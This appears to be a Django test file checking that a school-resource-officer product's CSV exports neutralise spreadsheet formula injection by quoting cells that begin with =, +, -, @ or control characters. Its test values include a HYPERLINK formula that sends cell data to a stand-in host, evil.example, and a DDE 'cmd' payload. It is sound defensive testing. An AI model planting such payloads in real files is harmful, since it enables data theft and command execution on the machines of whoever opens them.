"""Every CSV the product writes is safe to open in a spreadsheet: a name, badge or any other text
that starts like a formula (= + - @, a tab, a line break) is written as text, with a leading
quote (issue 23, finding 10; `sro/core/csvcells.py`)."""

from __future__ import annotations

import csv
import io
from typing import Any

from django.test import override_settings

from conftest import Demo
from sro.core import csvcells

SCHOOL = '\t=HYPERLINK("https://evil.example/?"&A1,"Click")'
FIRST = "-2+3+cmd|' /C calc'!A0"
BADGE = "@SUM(1+1)*cmd"  # within the badge field's 20 characters


def _cells(text: str) -> list[str]:
    return [cell for row in list(csv.reader(io.StringIO(text)))[1:] for cell in row]


@override_settings(SRO_PUBLIC_MIN_COUNT=1)
def test_no_csv_export_starts_a_cell_like_a_formula(clients: dict[str, Any], demo: Demo) -> None:
    from sro.contracts.models import Contract
    from sro.roster.services import save_officer
    from sro.schools.services import save_school

    chief = demo.users["chief"]
    school = demo.high_school
    school.name = SCHOOL
    save_school(school, actor=chief)
    officer = demo.officers["Lindqvist"]
    officer.first_name, officer.badge_number = FIRST, BADGE
    save_officer(officer, actor=chief)
    contract = Contract.objects.filter(agency=demo.agency).first()
    assert contract is not None
    client = clients["chief"]
    exports = {
        "training": "/training/export.csv",
        "annual report": "/reports/annual/2026-27.csv",
        "joint report": f"/reports/contracts/{contract.pk}/2026-27.csv",
        "time by duty": "/activity/time-by-duty/?month=2026-11&format=csv",
        # The latest published year (its release keeps the names it was published with; the
        # formula cells of a release: sro/public/tests/test_transparency.py).
        "public transparency": f"/public/transparency/{demo.agency.pk}/2025-26.csv",
        **{f"BCA {m}": f"/force/bca/2026-{m:02d}.csv" for m in range(7, 12)},
    }
    found: set[str] = set()
    for name, url in exports.items():
        response = client.get(url)
        assert response.status_code == 200, name
        assert response["Content-Type"].startswith("text/csv"), name
        cells = _cells(response.content.decode())
        risky = [c for c in cells if c.startswith(csvcells.FORMULA_START)]
        assert risky == [], (name, risky)
        found |= {c for c in cells if c[1:] in (SCHOOL, BADGE) or FIRST in c}
    # The hostile values did reach the files, as text.
    assert f"'{SCHOOL}" in found
    assert f"'{BADGE}" in found


def test_a_cell_is_made_text_only_when_it_starts_like_a_formula() -> None:
    out = io.StringIO()
    writer = csvcells.writer(out, lineterminator="\n")
    writer.writerow(["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "a=b", "", -3, 2.5, None, "'=x"])
    assert out.getvalue() == "'=1+1,'+1,'-1,'@A1,'\tx,\"'\rx\",a=b,,-3,2.5,,'=x\n"
    out = io.StringIO()
    dict_writer = csvcells.DictWriter(out, fieldnames=["a", "b"], lineterminator="\n")
    dict_writer.writeheader()
    dict_writer.writerow({"a": "=cmd", "b": 7})
    assert out.getvalue() == "a,b\n'=cmd,7\n"
